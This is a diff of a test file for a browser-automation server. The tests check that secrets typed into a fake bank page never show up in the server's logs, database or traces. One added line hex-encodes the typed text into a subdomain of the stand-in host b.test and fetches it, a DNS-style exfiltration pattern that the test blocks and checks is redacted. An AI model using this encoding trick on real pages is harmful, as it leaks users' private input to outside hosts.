@@ -76,6 +76,8 @@ const PAGE = `<!doctype html><meta charset="utf-8"><title>Bank</title><style>bod
     history.pushState({ said }, '', '/page?typed=' + encoded + '#' + encoded);
     fetch('/api?said=' + encoded + '&b64=' + encodeURIComponent(b64(said)), { method: 'POST', headers: { 'x-said': encoded, 'x-b64': b64(said) }, body: JSON.stringify({ said }) }).catch(() => {});
     fetch('/api/' + 'z'.repeat(2000) + '?said=' + encoded).catch(() => {});
+    const hex = [...new TextEncoder().encode(said)].map(byte => byte.toString(16).padStart(2, '0')).join('');
+    fetch('http://' + hex + '.b.test/').catch(() => {});
     new WebSocket('ws://' + location.host + '/ws?said=' + encoded);
     document.cookie = 'said=' + encoded;
     Object.assign(document.createElement('a'), { download: said + '.txt', href: 'data:text/plain,x' }).click();
@@ -130,7 +132,10 @@ const steps = (all: readonly object[], more: object = {}, prefer = 'wait=55') =>
     server,
     key,
     'browser.steps',
-    { url: `${pages.a}/page`, steps: all, viewport: { width: 800, height: 600 }, timeoutMs: 60_000, ...more },
+    {
+      ...{ url: `${pages.a}/page`, steps: all, viewport: { width: 800, height: 600 }, timeoutMs: 60_000 },
+      ...{ networkPolicy: { deny: ['b.test'] }, ...more },
+    },
     { headers },
   );
 };
@@ -351,6 +356,11 @@ test('the database, the data folder, the log and the traces of the server do not
   assert.ok(found.length > 50);
   // Proves that the search works: text that is not secret is found.
   assert.ok(found.some(({ where, text }) => where === 'logs' && text.includes('/page?typed=')));
+  for (const place of ['/events', 'the log of the server'])
+    assert.ok(
+      found.some(({ where, text }) => where === place && text.includes('"***.b.test"')),
+      `the refused host in ${place}`,
+    );
 });
 
 test('a killed server leaves no core file, and a core file would not include its memory', async () => {
